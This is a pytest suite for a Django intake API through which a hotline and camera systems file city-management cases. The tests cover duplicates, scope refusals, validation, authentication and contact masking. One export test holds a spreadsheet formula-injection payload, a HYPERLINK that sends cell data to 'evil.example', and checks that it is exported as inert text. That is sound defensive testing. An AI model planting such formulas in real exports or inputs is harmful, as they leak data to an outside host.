"""POST /api/v1/intake/: external systems file events; a repeat is the same case; refusals are logged."""

import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import Role
from cases.models import Case, IntakeRefusal, Source
from grids.models import Area
from tests.api_support import isolate_throttling, token_client

pytestmark = pytest.mark.django_db

SQUARE_A = [[119.10, 36.70], [119.11, 36.70], [119.11, 36.71], [119.10, 36.71], [119.10, 36.70]]
SQUARE_B = [[119.12, 36.70], [119.13, 36.70], [119.13, 36.71], [119.12, 36.71], [119.12, 36.70]]
IN_A = {"latitude": 36.705, "longitude": 119.105}
IN_B = {"latitude": 36.705, "longitude": 119.125}
OUTSIDE = {"latitude": 36.5, "longitude": 119.0}


@pytest.fixture(autouse=True)
def _isolated(monkeypatch, tree):
    isolate_throttling(monkeypatch)
    for grid, square in ((tree.grid_a, SQUARE_A), (tree.grid_b, SQUARE_B)):
        grid.boundary = {"type": "Polygon", "coordinates": [square]}
        grid.save()


def system_client(key):
    client = token_client()
    client.credentials(HTTP_AUTHORIZATION=f"System {key}")
    return client


def call(external_id="12345-0001", **fields):
    return {
        "external_id": external_id,
        "category": "0201",
        "description": "小区门口井盖缺失，夜间有安全隐患",
        "source": Source.HOTLINE,
        "contact_name": "张先生",
        "contact_phone": "13912345678",
        **IN_A,
        **fields,
    }


@pytest.fixture
def hotline(make_system):
    return make_system("hotline", name="12345 市民热线")


def test_a_call_files_a_case_in_the_grid_at_its_point_and_a_repeat_is_the_same_case(hotline, tree):
    system, key = hotline
    client = system_client(key)
    first = client.post("/api/v1/intake/", call(), format="json")
    assert first.status_code == 201, first.json()
    body = first.json()
    assert body["created"] is True and body["external_id"] == "12345-0001" and body["status"] == "reported"
    case = Case.objects.get()
    assert (case.grid, case.source, case.reporter, case.external_system) == (
        tree.grid_a,
        Source.HOTLINE,
        system.service_user,
        system,
    )
    assert (case.contact_name, case.contact_phone) == ("张先生", "13912345678")
    again = client.post("/api/v1/intake/", call(description="重复推送"), format="json")
    assert again.status_code == 200
    assert again.json() == {**body, "created": False}
    assert Case.objects.count() == 1
    read = client.get("/api/v1/intake/12345-0001/")
    assert read.status_code == 200 and read.json()["id"] == case.pk


def test_the_history_names_the_system(hotline):
    from cases.selectors import case_timeline

    system, key = hotline
    system_client(key).post("/api/v1/intake/", call(), format="json")
    report = next(e for e in case_timeline(Case.objects.get(), system.service_user) if e.name == "report")
    assert "12345 市民热线" in report.by


def test_a_grid_code_instead_of_a_point_and_a_title_made_from_the_category(hotline, tree):
    _system, key = hotline
    body = call(grid=tree.grid_a.code)
    del body["latitude"], body["longitude"]
    response = system_client(key).post("/api/v1/intake/", body, format="json")
    assert response.status_code == 201
    assert Case.objects.get().title.startswith("治安隐患：")


def test_the_callers_contact_is_masked_like_a_residents(hotline, people, role_groups):
    _system, key = hotline
    system_client(key).post("/api/v1/intake/", call(), format="json")
    case = Case.objects.get()
    detail = token_client(people[Role.GRID_WORKER]).get(f"/api/v1/cases/{case.pk}/").json()
    assert "13912345678" not in json.dumps(detail, ensure_ascii=False)
    assert "张先生" not in json.dumps(detail, ensure_ascii=False)


@pytest.mark.parametrize(
    "change, field",
    [
        ({"category": "0101"}, "category"),  # a category outside the system's list
        (IN_B, "grid"),  # a grid outside its areas
        ({"source": Source.GRID_PATROL}, "source"),  # a source not registered for it
    ],
)
def test_outside_the_systems_scope_is_403_naming_the_field_nothing_filed_refusal_logged(hotline, change, field):
    system, key = hotline
    response = system_client(key).post("/api/v1/intake/", call(**change), format="json")
    assert response.status_code == 403
    assert response.json()["field"] == field
    assert not Case.objects.exists()
    refusal = IntakeRefusal.objects.get()
    assert (refusal.system, refusal.status_code, refusal.field, refusal.external_id) == (
        system,
        403,
        field,
        "12345-0001",
    )


@pytest.mark.parametrize(
    "change, field",
    [
        ({"category": "9999"}, "category"),
        (OUTSIDE, "latitude"),
        ({"latitude": 36.7}, "longitude"),
        ({"external_id": "bad id with spaces"}, "external_id"),
        ({"contact_phone": "call me"}, "contact_phone"),
        ({"occurred_at": (timezone.now() + timedelta(hours=2)).isoformat()}, "occurred_at"),
        ({"occurred_at": (timezone.now() - timedelta(days=30)).isoformat()}, "occurred_at"),
        ({"source": Source.RESIDENT}, "source"),
        ({"description": ""}, "description"),
    ],
)
def test_bad_input_is_400_naming_the_field_and_logged(hotline, change, field):
    body = call(**change)
    if change == {"latitude": 36.7}:
        del body["longitude"]
    _system, key = hotline
    response = system_client(key).post("/api/v1/intake/", body, format="json")
    assert response.status_code == 400, response.json()
    assert field in response.json()
    assert not Case.objects.exists()
    assert IntakeRefusal.objects.get().field == field


def test_a_malformed_body_is_400_and_logged(hotline):
    _system, key = hotline
    response = system_client(key).post("/api/v1/intake/", "{not json", content_type="application/json")
    assert response.status_code == 400 and "detail" in response.json()
    assert IntakeRefusal.objects.get().status_code == 400


def test_an_oversize_body_is_413_and_logged(hotline, settings):
    settings.INTAKE_MAX_BYTES = 2000
    _system, key = hotline
    response = system_client(key).post("/api/v1/intake/", call(description="井" * 1500), format="json")
    assert response.status_code == 413
    assert not Case.objects.exists()
    assert IntakeRefusal.objects.get().status_code == 413


def test_without_a_valid_system_key_the_intake_is_closed(hotline, people):
    system, key = hotline
    assert token_client().post("/api/v1/intake/", call(), format="json").status_code == 401
    assert system_client(key + "x").post("/api/v1/intake/", call(), format="json").status_code == 401
    # A person's token does not open the intake, and a system's key opens nothing else.
    person = token_client(people[Role.DISTRICT_STAFF])
    assert person.post("/api/v1/intake/", call(), format="json").status_code == 401
    assert system_client(key).get("/api/v1/cases/").status_code == 401
    system.is_active = False
    system.save()
    assert system_client(key).post("/api/v1/intake/", call(), format="json").status_code == 401
    assert not Case.objects.exists()


def test_another_systems_external_id_is_its_own_and_its_cases_stay_hidden(hotline, make_system):
    _hotline, hotline_key = hotline
    _other, other_key = make_system("dept", sources=[Source.DEPARTMENT])
    mine = system_client(hotline_key).post("/api/v1/intake/", call(), format="json").json()
    theirs = system_client(other_key).post(
        "/api/v1/intake/", call(source=Source.DEPARTMENT, contact_phone="", contact_name=""), format="json"
    )
    assert theirs.status_code == 201 and theirs.json()["id"] != mine["id"]
    assert Case.objects.count() == 2
    # Reading by external id only finds one's own case.
    Case.objects.filter(pk=theirs.json()["id"]).delete()
    assert system_client(other_key).get("/api/v1/intake/12345-0001/").status_code == 404
    assert system_client(other_key).get("/api/v1/intake/nothing-here/").status_code == 404


def test_a_formula_filed_through_the_intake_is_text_in_the_case_export(hotline, settings):
    from datetime import date

    from metrics.exports import write_cases
    from metrics.workhours import WorkClock

    _system, key = hotline
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    response = system_client(key).post("/api/v1/intake/", call(title=formula), format="json")
    assert response.status_code == 201
    buffer = io.BytesIO()
    today = timezone.localdate()
    write_cases(Case.objects.all(), buffer, clock=WorkClock.between(date(today.year, 1, 1), today))
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == formula and cell.data_type == "s"


def test_refusals_are_listed_in_the_admin_for_district_staff(hotline, client, people, role_groups):
    _system, key = hotline
    system_client(key).post("/api/v1/intake/", call(category="0101"), format="json")
    client.force_login(people[Role.DISTRICT_STAFF])
    page = client.get("/admin/cases/intakerefusal/")
    assert page.status_code == 200
    assert "12345-0001" in page.content.decode()


def test_camera_alarm_through_the_intake(make_system, tree, categories):
    from cases.models import EventType
    from grids.models import Camera

    system, key = make_system("video", sources=[Source.VIDEO])
    Camera.objects.create(code="CAM-1", name="甲一路口", latitude="36.705", longitude="119.105", grid=tree.grid_a)
    EventType.objects.create(code="manhole", name="井盖缺失", category=categories["hazard"])
    alarm = {
        "external_id": "A-1",
        "camera": "CAM-1",
        "event_type": "manhole",
        "occurred_at": timezone.now().isoformat(),
    }
    client = system_client(key)
    first = client.post("/api/v1/intake/", alarm, format="json")
    assert first.status_code == 201, first.json()
    assert client.post("/api/v1/intake/", alarm, format="json").status_code == 200
    unknown = client.post("/api/v1/intake/", {**alarm, "external_id": "A-2", "camera": "CAM-X"}, format="json")
    assert unknown.status_code == 400 and "camera" in unknown.json()
    # A camera in a grid outside the system's areas: refused before any alarm counts.
    Camera.objects.create(code="CAM-2", name="乙一路口", latitude="36.705", longitude="119.125", grid=tree.grid_b)
    outside = client.post("/api/v1/intake/", {**alarm, "external_id": "A-3", "camera": "CAM-2"}, format="json")
    assert outside.status_code == 403 and outside.json()["field"] == "grid"
    assert Case.objects.count() == 1
    assert Area.objects.filter(pk=tree.grid_b.pk, cases__isnull=False).count() == 0


@pytest.mark.services
@pytest.mark.django_db(transaction=True)
def test_two_deliveries_of_one_event_racing_on_postgresql_file_one_case(postgres, hotline, monkeypatch):
    """No Idempotency-Key: the (system, external_id) constraint alone makes the twin find the first case."""
    import threading
    import time

    from django.db import connections

    from cases import intake, services

    create = services.create_case

    def slow_create(**kwargs):
        case = create(**kwargs)
        time.sleep(0.5)
        return case

    monkeypatch.setattr(intake, "create_case", slow_create)
    _system, key = hotline
    barrier = threading.Barrier(2, timeout=20)
    results = [None, None]

    def run(index):
        try:
            client = system_client(key)
            barrier.wait()
            response = client.post("/api/v1/intake/", call(), format="json")
            results[index] = (response.status_code, response.json()["id"])
        except Exception as exc:  # noqa: BLE001 - reported below
            results[index] = exc
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(20)
    assert sorted(r[0] for r in results) == [200, 201], results
    assert results[0][1] == results[1][1]
    assert Case.objects.count() == 1


def test_a_repeat_costs_a_few_queries_and_refusals_one_more(hotline, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    _system, key = hotline
    client = system_client(key)
    with CaptureQueriesContext(connection) as filed:
        assert client.post("/api/v1/intake/", call(), format="json").status_code == 201
    # The key's system and service account, then the earlier case: nothing else is read for a repeat.
    with django_assert_max_num_queries(2):
        assert client.post("/api/v1/intake/", call(), format="json").status_code == 200
    # Filing (23 when written): the locator, the scope, create_case with its history row and notices.
    assert len(filed) <= 26, [q["sql"][:80] for q in filed]
